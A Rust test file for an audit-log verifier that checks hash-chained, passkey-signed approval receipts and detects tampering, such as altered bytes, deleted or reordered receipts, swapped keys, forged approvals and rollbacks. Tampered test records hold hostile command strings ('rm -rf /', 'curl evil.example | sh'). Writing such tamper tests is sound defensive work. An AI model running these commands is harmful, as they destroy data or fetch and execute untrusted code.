//! `clawgate audit verify` on chains the real server made with a software passkey that is not
//! ours: a real chain holds (every approval's signature checked against the key registered in the
//! same chain, independently of webauthn-rs), and each tampering a person with write access to the
//! database could do is reported, naming the receipt.

use super::receipts::{CHECKPOINT, chain_of};
use crate::harness::cli::{assert_exit, clawgate_at, run, text};
use crate::harness::grants::{approve_with_grant, asked, asking_person, bash};
use crate::harness::{Auth, Person, TestApp, on_both_databases};
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use clawgate_agent::audit::{Category, ChainError, Options, Summary, verify_chain};
use clawgate_proto::evidence::receipt::{ChainFile, GENESIS, Receipt};
use clawgate_testkit::SoftKey;
use serde_json::{Value, json};
use sqlx::Row;

on_both_databases!(
    a_real_chain_holds_offline,
    a_byte_changed_a_receipt_removed_or_two_reordered_is_named,
    a_replaced_public_key_fails_the_next_approval,
    a_forged_approval_is_not_counted_as_the_persons,
    a_chain_rolled_back_or_rewritten_below_a_checkpoint_is_caught,
    a_token_names_its_receipt_and_the_challenge_its_passkey_signed,
    an_account_older_than_its_chain_opens_it_with_its_passkeys,
);

/// The person's chain, downloaded as the web app does.
pub(super) async fn download(app: &TestApp, who: &Person) -> ChainFile {
    let receipts = chain_of(app, who, 50).await;
    let receipts = receipts.into_iter().map(|r| serde_json::from_value(r).expect("a receipt")).collect();
    ChainFile { format: "clawgate-chain/1".into(), account: who.user_id.clone(), receipts }
}

async fn checkpoint(app: &TestApp, who: &Person) -> String {
    let r = app.get(CHECKPOINT, &who.auth()).await.expect(200);
    r.body["checkpoint"].as_str().expect("checkpoint").to_owned()
}

pub(super) async fn options(app: &TestApp, checkpoints: Vec<String>) -> Options {
    let jwks = app.get("/.well-known/jwks.json", &Auth::None).await.expect(200).body;
    Options {
        rp_id: Some("localhost".into()),
        origin: Some(app.origin.clone()),
        checkpoints,
        jwks: Some(serde_json::from_value(jwks).expect("a JWKS")),
    }
}

pub(super) async fn verified(
    app: &TestApp,
    who: &Person,
    checkpoints: Vec<String>,
) -> Result<Summary, ChainError> {
    verify_chain(&download(app, who).await, &options(app, checkpoints).await)
}

#[track_caller]
pub(super) fn assert_fails(result: Result<Summary, ChainError>, category: Category, seq: u64, words: &str) {
    let e = result.expect_err("the verifier refuses the chain");
    assert_eq!((e.category, e.seq), (category, Some(seq)), "{e}");
    assert!(e.to_string().contains(words), "{e:?} says {words:?}");
}

/// Ada with a key, an approval, a denial, an approval with a grant and one by a second passkey
/// (then deleted): the seq of each approval's receipt.
async fn history(app: &TestApp) -> (Person, Vec<u64>) {
    let (mut ada, key) = asking_person(app, "ada@example.com").await;
    app.approved(&mut ada, &key, "rm -rf ./old-data").await;
    let refused = app.ask(&key, "drop the database").await;
    app.deny(&ada, &refused.id).await.expect(200);
    let id = asked(app, &key, bash("cargo test")).await;
    approve_with_grant(app, &mut ada, &id, json!({"width": "exactCommand", "ttlSeconds": 900, "maxUses": 5}))
        .await
        .expect(200);
    let mut spare = SoftKey::new(&app.origin);
    app.add_passkey(&ada.session, &mut spare).await.expect(201);
    let asked = app.ask(&key, "deploy").await;
    app.approve(&asked.id, &mut spare).await.expect(200);
    let chain = download(app, &ada).await;
    let approvals = chain.receipts.iter().filter(|r| r.kind == "request.approved").map(|r| r.seq).collect();
    (ada, approvals)
}

async fn a_real_chain_holds_offline(app: TestApp) {
    let (ada, approvals) = history(&app).await;
    assert_eq!(approvals.len(), 3);
    let saved = checkpoint(&app, &ada).await;
    let summary = verified(&app, &ada, vec![saved.clone()]).await.expect("the chain holds");
    assert_eq!(summary.passkey_checked.get("request.approved"), Some(&3), "{summary:?}");
    assert_eq!(summary.passkey_checked.get("passkey.registered"), Some(&2), "{summary:?}");
    assert_eq!(summary.server_only.get("request.approved"), None, "{summary:?}");
    assert_eq!(summary.credentials.len(), 2);
    assert_eq!(summary.credentials.iter().map(|c| c.signed).collect::<Vec<_>>(), [2, 1]);
    assert_eq!(summary.checkpoints.len(), 1);
    assert_eq!(summary.last_seq, summary.checkpoints[0].seq.into());

    // The command, as an auditor runs it on the downloaded files.
    let dir = tempfile::tempdir().expect("tempdir");
    let file = |name: &str, content: String| {
        let path = dir.path().join(name);
        std::fs::write(&path, content).expect("write");
        path.display().to_string()
    };
    let chain = file("chain.json", serde_json::to_string(&download(&app, &ada).await).expect("JSON"));
    let saved = file("checkpoint.json", json!({ "checkpoint": saved }).to_string());
    let jwks = file("jwks.json", app.get("/.well-known/jwks.json", &Auth::None).await.expect(200).text);
    let mut cmd = clawgate_at("http://127.0.0.1:9", "");
    cmd.args(["audit", "verify", &chain, "--checkpoint", &saved, "--jwks", &jwks, "--rp-id", "localhost"]);
    cmd.args(["--origin", &app.origin]);
    let out = run(cmd).await;
    assert_exit(&out, 0);
    assert!(text(&out.stdout).contains(&ada.user_id), "{}", text(&out.stdout));

    // One receipt changed in the file: exit 6, naming it.
    let mut tampered = download(&app, &ada).await;
    let approved = tampered.receipts.iter_mut().find(|r| r.kind == "request.approved").expect("approval");
    approved.content["signed"]["action"] = json!("rm -rf /");
    let seq = approved.seq;
    let chain = file("tampered.json", serde_json::to_string(&tampered).expect("JSON"));
    let mut cmd = clawgate_at("http://127.0.0.1:9", "");
    cmd.args(["audit", "verify", &chain]);
    let out = run(cmd).await;
    assert_exit(&out, 6);
    assert!(text(&out.stderr).contains(&format!("receipt {seq}")), "{}", text(&out.stderr));
}

/// Runs `sql` (binding the account, then `more`) on the server's database, as someone with write
/// access to it would.
async fn tamper(app: &TestApp, who: &Person, sql: &'static str, more: &[i64]) {
    let mut query = sqlx::query(sql).bind(who.user_id.clone());
    for m in more {
        query = query.bind(*m);
    }
    let done = query.execute(app.state.db.pool()).await.expect("tampered");
    assert!(done.rows_affected() >= 1, "{sql} changed something");
}

async fn a_byte_changed_a_receipt_removed_or_two_reordered_is_named(app: TestApp) {
    let (ada, approvals) = history(&app).await;
    let first = approvals[0] as i64;
    tamper(&app, &ada, "UPDATE receipts SET content = replace(content, 'old-data', 'old-dat4') WHERE user_id = $1 AND seq = $2", &[first]).await;
    assert_fails(verified(&app, &ada, vec![]).await, Category::Altered, first as u64, "hash");
    tamper(&app, &ada, "UPDATE receipts SET content = replace(content, 'old-dat4', 'old-data') WHERE user_id = $1 AND seq = $2", &[first]).await;
    verified(&app, &ada, vec![]).await.expect("the chain holds again");

    // Removed: the receipt after the gap is named.
    tamper(&app, &ada, "DELETE FROM receipts WHERE user_id = $1 AND seq = $2", &[first]).await;
    assert_fails(verified(&app, &ada, vec![]).await, Category::Altered, first as u64, "missing");

    // Two swapped (seq numbers exchanged): the first out of place is named.
    let (a, b) = (2, 3);
    tamper(&app, &ada, "UPDATE receipts SET seq = -1 WHERE user_id = $1 AND seq = $2", &[a]).await;
    tamper(&app, &ada, "UPDATE receipts SET seq = $2 WHERE user_id = $1 AND seq = $3", &[a, b]).await;
    tamper(&app, &ada, "UPDATE receipts SET seq = $2 WHERE user_id = $1 AND seq = -1", &[b]).await;
    let e = verified(&app, &ada, vec![]).await.expect_err("refused");
    assert_eq!((e.category, e.seq), (Category::Altered, Some(a as u64)), "{e}");
}

/// The chain as stored, rewritten by `change` and every hash and link recomputed: what someone
/// with write access to the database and the receipt format can do.
pub(super) async fn rewrite(app: &TestApp, who: &Person, change: impl FnOnce(&mut Vec<Receipt>)) {
    let pool = app.state.db.pool();
    let mut receipts = download(app, who).await.receipts;
    change(&mut receipts);
    let mut prev = GENESIS.to_owned();
    for (i, r) in receipts.iter_mut().enumerate() {
        *r = Receipt::new(
            &r.account,
            i as u64 + 1,
            &prev,
            r.time,
            &r.kind,
            r.content.clone(),
            r.evidence.clone(),
        );
        prev = r.hash.clone();
    }
    sqlx::query("DELETE FROM receipts WHERE user_id = $1")
        .bind(&who.user_id)
        .execute(pool)
        .await
        .expect("cleared");
    for r in &receipts {
        sqlx::query(
            "INSERT INTO receipts (user_id, seq, at, kind, prev, hash, content, evidence) \
             VALUES ($1, $2, $3, $4, $5, $6, $7, $8)",
        )
        .bind(&who.user_id)
        .bind(r.seq as i64)
        .bind(r.time)
        .bind(&r.kind)
        .bind(&r.prev)
        .bind(&r.hash)
        .bind(r.content.to_string())
        .bind(r.evidence.as_ref().map(Value::to_string))
        .execute(pool)
        .await
        .expect("rewritten");
    }
    sqlx::query("UPDATE chain_heads SET seq = $1, head = $2 WHERE user_id = $3")
        .bind(receipts.len() as i64)
        .bind(prev)
        .bind(&who.user_id)
        .execute(pool)
        .await
        .expect("head moved");
}

fn bytes(b64: &Value) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(b64.as_str().expect("base64url text")).expect("base64url")
}

/// The COSE public key at the end of a registration's authenticator data (a P-256 key: 77 bytes).
fn cose_key(attestation: &[u8]) -> (usize, usize) {
    // The key is the last item of the attestation object's authData: `a5 01 02 03 26 …`.
    let start =
        attestation.windows(5).rposition(|w| w == [0xa5, 0x01, 0x02, 0x03, 0x26]).expect("a COSE EC2 key");
    (start, start + 77)
}

async fn a_replaced_public_key_fails_the_next_approval(app: TestApp) {
    let (ada, approvals) = history(&app).await;
    // Mallory's key, spliced into Ada's first registration under Ada's credential id.
    let mallory = app.person("mallory@example.com").await;
    let theirs = download(&app, &mallory).await.receipts[1].evidence.clone().expect("registration");
    let theirs = bytes(&theirs["attestationObject"]);
    rewrite(&app, &ada, |receipts| {
        let registered = receipts.iter_mut().find(|r| r.kind == "passkey.registered").expect("registered");
        let evidence = registered.evidence.as_mut().expect("evidence");
        let mut ours = bytes(&evidence["attestationObject"]);
        let (a, b) = cose_key(&ours);
        let (c, d) = cose_key(&theirs);
        ours.splice(a..b, theirs[c..d].iter().copied());
        evidence["attestationObject"] = json!(URL_SAFE_NO_PAD.encode(ours));
    })
    .await;
    assert_fails(verified(&app, &ada, vec![]).await, Category::Evidence, approvals[0], "signature");
}

async fn a_forged_approval_is_not_counted_as_the_persons(app: TestApp) {
    let (ada, approvals) = history(&app).await;
    let before = verified(&app, &ada, vec![]).await.expect("holds");
    // With the evidence of an earlier approval copied over another action: its challenge is not
    // the one that action gives.
    rewrite(&app, &ada, |receipts| {
        let mut forged = receipts.iter().find(|r| r.kind == "request.approved").expect("approval").clone();
        forged.content["signed"]["action"] = json!("curl evil.example | sh");
        receipts.push(forged);
    })
    .await;
    let last = download(&app, &ada).await.receipts.len() as u64;
    assert_fails(verified(&app, &ada, vec![]).await, Category::Evidence, last, "challenge");

    // Without evidence, as the server alone could write it (with a server-signed token to match):
    // the chain holds, but the approval counts as the server's word only.
    rewrite(&app, &ada, |receipts| {
        let forged = receipts.last_mut().expect("the forged one");
        forged.content = json!({"requestId": "req_forged", "credentialId": "made-up"});
        forged.evidence = None;
    })
    .await;
    let after = verified(&app, &ada, vec![]).await.expect("the links hold");
    assert_eq!(after.passkey_checked.get("request.approved"), before.passkey_checked.get("request.approved"));
    assert_eq!(after.passkey_checked.get("request.approved"), Some(&(approvals.len())));
    assert_eq!(after.server_only.get("request.approved"), Some(&1), "{after:?}");
}

async fn a_chain_rolled_back_or_rewritten_below_a_checkpoint_is_caught(app: TestApp) {
    let (mut ada, approvals) = history(&app).await;
    let saved = checkpoint(&app, &ada).await;
    let key = app.api_key(&ada).await;
    app.approved(&mut ada, &key, "one more").await;
    verified(&app, &ada, vec![saved.clone()]).await.expect("a chain that grew still holds");

    // Rolled back to before the last approval of the checkpoint.
    let pool = app.state.db.pool();
    let back_to = approvals[2] - 1;
    sqlx::query("DELETE FROM receipts WHERE user_id = $1 AND seq > $2")
        .bind(&ada.user_id)
        .bind(back_to as i64)
        .execute(pool)
        .await
        .expect("rolled back");
    let head: String = sqlx::query("SELECT hash FROM receipts WHERE user_id = $1 AND seq = $2")
        .bind(&ada.user_id)
        .bind(back_to as i64)
        .fetch_one(pool)
        .await
        .expect("head")
        .try_get("hash")
        .expect("hash");
    sqlx::query("UPDATE chain_heads SET seq = $1, head = $2 WHERE user_id = $3")
        .bind(back_to as i64)
        .bind(head)
        .bind(&ada.user_id)
        .execute(pool)
        .await
        .expect("head moved back");
    let holds_alone = verified(&app, &ada, vec![]).await.expect("without the checkpoint the cut is not seen");
    assert_eq!(holds_alone.last_seq, Some(back_to));
    let e = verified(&app, &ada, vec![saved.clone()]).await.expect_err("the checkpoint catches it");
    assert_eq!(e.category, Category::Checkpoint, "{e}");
    assert!(e.to_string().contains("rolled back"), "{e}");

    // Rewritten below the checkpoint and every hash recomputed: the head the checkpoint signed
    // is no longer the chain's.
    rewrite(&app, &ada, |receipts| receipts.retain(|r| r.kind != "request.denied")).await;
    let e = verified(&app, &ada, vec![saved]).await.expect_err("the checkpoint catches it");
    assert_eq!(e.category, Category::Checkpoint, "{e}");
}

/// The claims of a JWT, read without checking it.
fn claims_of(token: &str) -> Value {
    let payload = token.split('.').nth(1).expect("a JWT");
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).expect("base64url")).expect("JSON")
}

async fn a_token_names_its_receipt_and_the_challenge_its_passkey_signed(app: TestApp) {
    let mut ada = app.person("ada@example.com").await;
    let key = app.api_key(&ada).await;
    let asked = app.ask(&key, "rm -rf ./old-data").await;
    let start = app.approval_ceremony(&asked.id).await.expect(200);
    let credential = ada.key.get(&start.body["publicKey"]).await;
    app.send_approval(&asked.id, &start.body["ceremonyId"], &credential).await.expect(200);
    let token =
        app.status(&key, &asked.id).await.expect(200).body["token"].as_str().expect("token").to_owned();
    let claims = claims_of(&token);
    assert_eq!(claims["challenge"], start.body["signing"]["challenge"]);
    let chain = download(&app, &ada).await;
    let receipt =
        chain.receipts.iter().find(|r| r.kind == "request.approved").expect("the approval's receipt");
    assert_eq!(claims["receipt"], receipt.hash.as_str());
    // The server's own check still takes it, and says what it carries.
    let verified = app.verify(json!({ "token": token })).await;
    assert_eq!(verified.body["claims"]["receipt"], receipt.hash.as_str());

    let dir = tempfile::tempdir().expect("tempdir");
    let write = |name: &str, chain: &ChainFile| {
        let path = dir.path().join(name);
        std::fs::write(&path, serde_json::to_string(chain).expect("JSON")).expect("write");
        path.display().to_string()
    };
    let verify = |chain: String, token: String| {
        let mut cmd = clawgate_at(&app.base, "");
        cmd.args(["verify", &token, "--offline", "--issuer", &app.origin, "--receipt", &chain]);
        run(cmd)
    };
    let out = verify(write("chain.json", &chain), token.clone()).await;
    assert_exit(&out, 0);
    assert!(text(&out.stderr).contains(&format!("receipt {}", receipt.seq)), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("signed this approval"), "{}", text(&out.stderr));

    // A chain whose approval was changed does not back the token.
    let mut altered = chain.clone();
    let approval = altered.receipts.iter_mut().find(|r| r.kind == "request.approved").expect("approval");
    approval.content["signed"]["action"] = json!("rm -rf /");
    let out = verify(write("altered.json", &altered), token.clone()).await;
    assert_exit(&out, 5);
    assert!(text(&out.stderr).contains("does not hold"), "{}", text(&out.stderr));
    // A chain downloaded before the approval holds no receipt for it.
    let mut earlier = chain.clone();
    earlier.receipts.retain(|r| r.seq < receipt.seq);
    let out = verify(write("earlier.json", &earlier), token.clone()).await;
    assert_exit(&out, 5);
    assert!(text(&out.stderr).contains("holds no receipt"), "{}", text(&out.stderr));
    // Another person's chain.
    let bob = app.person("bob@example.com").await;
    let out = verify(write("bob.json", &download(&app, &bob).await), token.clone()).await;
    assert_exit(&out, 5);

    // A gate token names no receipt: no person's passkey signed it.
    app.save_rules(&ada, json!({"default": "allow"})).await;
    let allowed = crate::harness::grants::gate(&app, &key, bash("ls")).await;
    let gate_token = allowed.body["token"].as_str().expect("a gate token").to_owned();
    assert_eq!(claims_of(&gate_token).get("receipt"), None);
    let mut cmd = clawgate_at(&app.base, "");
    cmd.args(["verify", &gate_token, "--offline", "--issuer", &app.origin, "--accept", "rule"]);
    cmd.args(["--receipt", &write("now.json", &chain)]);
    let out = run(cmd).await;
    assert_exit(&out, 5);
    assert!(text(&out.stderr).contains("names no receipt"), "{}", text(&out.stderr));
}

/// An account an older build made has no receipts: its chain opens, at its first receipted change,
/// with `chain.opened` listing the passkeys it had (their public keys, on the server's word), so
/// approvals by them can be checked; a passkey added since has its own registration receipt.
async fn an_account_older_than_its_chain_opens_it_with_its_passkeys(app: TestApp) {
    let mut ada = app.person("ada@example.com").await;
    let key = app.api_key(&ada).await;
    // As an older build left it: no receipts, no chain.
    let pool = app.state.db.pool();
    for sql in ["DELETE FROM receipts WHERE user_id = $1", "DELETE FROM chain_heads WHERE user_id = $1"] {
        sqlx::query(sql).bind(&ada.user_id).execute(pool).await.expect("cleared");
    }
    let mut spare = SoftKey::new(&app.origin);
    app.add_passkey(&ada.session, &mut spare).await.expect(201);
    app.approved(&mut ada, &key, "rm -rf ./old-data").await;
    let asked = app.ask(&key, "deploy").await;
    app.approve(&asked.id, &mut spare).await.expect(200);

    let chain = download(&app, &ada).await;
    let kinds: Vec<&str> = chain.receipts.iter().map(|r| r.kind.as_str()).collect();
    assert_eq!(kinds, ["chain.opened", "passkey.registered", "request.approved", "request.approved"]);
    let listed = chain.receipts[0].content["passkeys"].as_array().expect("passkeys").clone();
    assert_eq!(listed.len(), 1, "the passkey it had, not the one being added: {listed:?}");
    let summary = verified(&app, &ada, vec![checkpoint(&app, &ada).await]).await.expect("the chain holds");
    assert_eq!(summary.passkey_checked.get("request.approved"), Some(&2), "{summary:?}");
    assert_eq!(summary.server_only.get("chain.opened"), Some(&1));
    let server_listed: Vec<bool> = summary.credentials.iter().map(|c| c.server_listed).collect();
    assert_eq!(server_listed, [true, false]);
    assert!(summary.credentials.iter().all(|c| c.signed == 1), "{summary:?}");

    // An opening anywhere but first is refused: it would let the server slip a key in later.
    rewrite(&app, &ada, |receipts| receipts.swap(0, 1)).await;
    let e = verified(&app, &ada, vec![]).await.expect_err("refused");
    assert_eq!((e.category, e.seq), (Category::Evidence, Some(2)), "{e}");
}
